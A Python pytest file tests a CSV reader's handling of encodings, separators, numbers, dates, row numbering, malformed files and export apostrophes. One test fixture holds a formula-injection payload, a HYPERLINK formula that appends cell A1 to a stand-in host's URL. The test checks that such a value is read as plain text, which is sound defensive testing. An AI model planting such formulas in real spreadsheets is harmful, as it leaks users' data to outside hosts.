"""CSV files in: encodings, separators, row numbers, and the files that are refused."""

from decimal import Decimal
from pathlib import Path

import pytest

from toc.errors import Invalid
from toc.exchange.date_text import Day, find_date_order, parse_date
from toc.exchange.number_text import Missing, Number, find_decimal_mark, parse_number
from toc.exchange.readers import Sheet, read_csv, undefuse

FILES = Path(__file__).parents[1] / "files"


def read_case(name: str) -> Sheet:
    return read_csv((FILES / name).read_bytes())


def column(sheet: Sheet, name: str) -> list[str]:
    return [row.cells[name] for row in sheet.rows]


def values(sheet: Sheet) -> list[Decimal | None]:
    texts = column(sheet, "value")
    mark = find_decimal_mark(texts)
    reads = [parse_number(text, decimal_mark=mark) for text in texts]
    return [read.value if isinstance(read, Number) else None for read in reads]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("C002-decimal-comma-quoted.csv", ["12.5", "9.75", "14", "31.25"]),
        ("C004-european-thousands.csv", ["1234.56", "980", "12500", "1000000.5", "-350.25"]),
        ("C006-space-thousands.csv", ["1250"] * 6),
        ("C043-scientific-notation.csv", ["12000000", "1000", "250", "0.001"]),
        ("C045-rounding.csv", ["10.25", "10.35", "10.45", "19.96", "11387"]),
    ],
)
def test_the_numbers_of_a_file_are_read_as_they_were_meant(name: str, expected: list[str]) -> None:
    assert values(read_case(name)) == [Decimal(text) for text in expected]


def test_the_mark_in_front_of_a_utf8_file_does_not_stick_to_the_first_heading() -> None:
    sheet = read_case("C007-utf8-bom.csv")
    assert (sheet.headers[0], sheet.encoding, sheet.separator) == ("indicator_code", "UTF-8", ",")
    assert column(sheet, "note") == ["Città di prova", "Tõrva keskus", "Liège – été"]


def test_a_windows_1252_file_keeps_every_letter() -> None:
    sheet = read_case("C009-windows-1252.csv")
    assert (sheet.encoding, sheet.separator) == ("Windows-1252", ";")
    assert column(sheet, "note") == ["Città – 5 €", "año de prueba", "‘t Veld £ 3"]


def test_line_breaks_in_a_note_are_kept_and_rows_are_counted_as_a_spreadsheet_does() -> None:
    sheet = read_case("C012-multiline-note.csv")
    assert column(sheet, "note") == ["two\nlines", "three\nshort\nlines", "plain", "bad value"]
    assert [(row.number, row.line) for row in sheet.rows] == [(2, 2), (3, 4), (4, 7), (5, 8)]
    assert sheet.rows[-1].cells["value"] == "abc"


def test_a_heading_that_is_there_twice_is_refused_with_both_columns() -> None:
    with pytest.raises(Invalid) as caught:
        read_case("C014-duplicate-header.csv")
    assert caught.value.message == "The heading “value” is there more than once (columns 5 and 7)."
    assert caught.value.field == "value"


def test_every_doubled_heading_is_named_at_once() -> None:
    with pytest.raises(Invalid) as caught:
        read_csv(b"a,b,a,b\n1,2,3,4\n")
    assert [fault.field for fault in caught.value.faults] == ["a", "b"]


def test_one_provable_date_fixes_the_order_of_the_file() -> None:
    sheet = read_case("C026-day-first-dates.csv")
    texts = column(sheet, "period_start") + column(sheet, "period_end")
    order = find_date_order(texts)
    reads = [parse_date(text, order=order) for text in texts]
    starts = [read.value.isoformat() for read in reads if isinstance(read, Day)][:5]
    assert starts == ["2023-07-01", "2023-01-01", "2023-04-01", "2023-10-01", "2023-03-05"]


def test_missing_marks_are_missing_and_zero_is_a_number() -> None:
    reads = [parse_number(text) for text in column(read_case("C041-missing-marks.csv"), "value")]
    assert [read.value for read in reads if isinstance(read, Number)] == [0, 0, 6]
    assert sum(isinstance(read, Missing) for read in reads) == 8


def test_leading_zeros_in_texts_stay_letter_for_letter() -> None:
    sheet = read_case("C047-leading-zeros.csv")
    assert column(sheet, "source") == ["00417", "00418", "01e2"]
    assert column(sheet, "note") == ["0039", "007", "1.50"]


def test_formulas_and_quotes_are_read_as_typed() -> None:
    notes = column(read_case("C052-formula-injection.csv"), "note")
    assert notes[0] == '=HYPERLINK("http://example.invalid/?q="&A1,"open")'
    assert notes[4:] == ["\t=1+1", "- a plain dash first"]
    texts = column(read_case("C053-export-texts.csv"), "note")
    assert texts[2:] == ["Año; punto y coma", 'comma, and "quotes"', "regel 1\nregel 2", "  two leading blanks"]


def test_every_bad_number_of_a_file_is_refused_and_the_good_one_read() -> None:
    good, bad = [], []
    for row in read_case("C088-bad-types.csv").rows:
        try:
            good.append(parse_number(row.cells["value"], field="value"))
        except Invalid:
            bad.append(row.number)
    assert bad == [2, 3, 4, 5, 6, 7, 8, 9]
    assert good == [Number(Decimal("12.5"), ".")]


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b" \r\n\r\n"])
def test_an_empty_file_is_refused_in_plain_words(data: bytes) -> None:
    with pytest.raises(Invalid, match="The file is empty"):
        read_csv(data)


def test_the_empty_file_of_the_cases_is_empty() -> None:
    with pytest.raises(Invalid, match="The file is empty"):
        read_case("C076-empty.csv")


def test_headings_without_rows_are_refused_in_plain_words() -> None:
    with pytest.raises(Invalid, match="Headings found, no rows"):
        read_case("C076-header-only.csv")
    with pytest.raises(Invalid, match="Headings found, no rows"):
        read_csv(b"a;b\n;\n\n")
    with pytest.raises(Invalid, match="Headings found, no rows"):
        read_csv(b"a;b")


def test_a_text_file_named_as_excel_is_read_by_its_content() -> None:
    assert column(read_case("C076-text-named-as-excel.xlsx"), "value") == ["10"]


@pytest.mark.parametrize("data", [b"PK\x03\x04\x14rest", b"%PDF-1.7", b"a,b\n1,\x00\n"])
def test_a_file_that_is_not_text_is_refused_with_what_to_do(data: bytes) -> None:
    with pytest.raises(Invalid, match="not a CSV file") as caught:
        read_csv(data)
    assert caught.value.remedy is not None
    assert "CSV UTF-8" in caught.value.remedy


def test_bytes_that_are_no_known_encoding_are_refused() -> None:
    with pytest.raises(Invalid, match="letters of this file cannot be read"):
        read_csv(b"a,b\n\x81,2\n")


@pytest.mark.parametrize(
    ("data", "separator"),
    [
        (b"a,b\n1,2\n", ","),
        (b"a;b\n1;2\n", ";"),
        (b"a\tb\n1\t2\n", "\t"),
        (b"a;b\r1;2\r", ";"),
        (b'"x, y, z";b\n1;2\n', ";"),
        (b'"two\nlines;;;;",b,c,d\n1,2,3\n', ","),
        (b"a\n1\n", ","),
        (b"a|b|c\n1|2|3\n", "|"),
        ("a;b\n1;2\n".encode("utf-16"), ";"),
        (b"Report, of the year, 2026\n\na;b;c\n1,5;2;3\n", ";"),
    ],
)
def test_the_separator_is_found_from_the_headings(data: bytes, separator: str) -> None:
    assert read_csv(data).separator == separator


def test_cells_are_raw_text_and_country_na_stays() -> None:
    row = read_csv(b'country,value,note\nNA, 1 ,"NA"\n').rows[0]
    assert row.cells == {"country": "NA", "value": " 1 ", "note": "NA"}


def test_blank_rows_are_kept_and_counted() -> None:
    sheet = read_csv(b"a,b\n1,2\n\n,\n3,4\n")
    assert [(row.number, row.is_blank) for row in sheet.rows] == [(2, False), (3, True), (4, True), (5, False)]
    assert sheet.rows[1].cells == {"a": "", "b": ""}


def test_a_short_row_has_empty_cells_at_its_end() -> None:
    assert read_csv(b"a,b,c\n1,2\n").rows[0].cells == {"a": "1", "b": "2", "c": ""}


def test_a_row_with_more_cells_than_headings_has_a_fault_and_the_others_stay_usable() -> None:
    sheet = read_csv(b"a,b\n1,2\n3,4,5,6\n7,8,,\n")
    assert [row.fault is None for row in sheet.rows] == [True, False, True]
    fault = sheet.rows[1].fault
    assert fault is not None
    assert fault.text() == "Row 3 has the text “5” in column 3, which has no heading."
    assert not sheet.rows[1].is_blank


def test_a_column_without_heading_is_passed_over_only_where_it_is_empty() -> None:
    sheet = read_csv(b"a,,b,\n1,,2,\n3,x,4,\n")
    assert sheet.headers == ("a", "b")
    assert sheet.rows[0].cells == {"a": "1", "b": "2"}
    assert [row.fault is None for row in sheet.rows] == [True, False]


@pytest.mark.parametrize("data", [b",,\n1,2,3\n", b"\n1,2\n"])
def test_a_first_row_without_headings_is_refused(data: bytes) -> None:
    with pytest.raises(Invalid, match="The first row has no headings"):
        read_csv(data)


@pytest.mark.parametrize("data", [b'a,b\n1,2\n3,"open\n4,5\n', b'a,b\n1,2\n"x"y,3\n'])
def test_a_wrong_quotation_mark_is_reported_with_its_line(data: bytes) -> None:
    with pytest.raises(Invalid, match="line 3 of the file") as caught:
        read_csv(data)
    assert caught.value.fields["line"] == 3


@pytest.mark.parametrize(
    ("text", "typed"),
    [
        ("'=1+1", "=1+1"),
        ("''=1+1", "'=1+1"),
        ("'-", "-"),
        ("'\tx", "\tx"),
        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
        ("=1+1", "=1+1"),
        ("''x", "''x"),
        ("", ""),
    ],
)
def test_the_apostrophe_of_an_export_is_taken_off_once(text: str, typed: str) -> None:
    assert undefuse(text) == typed
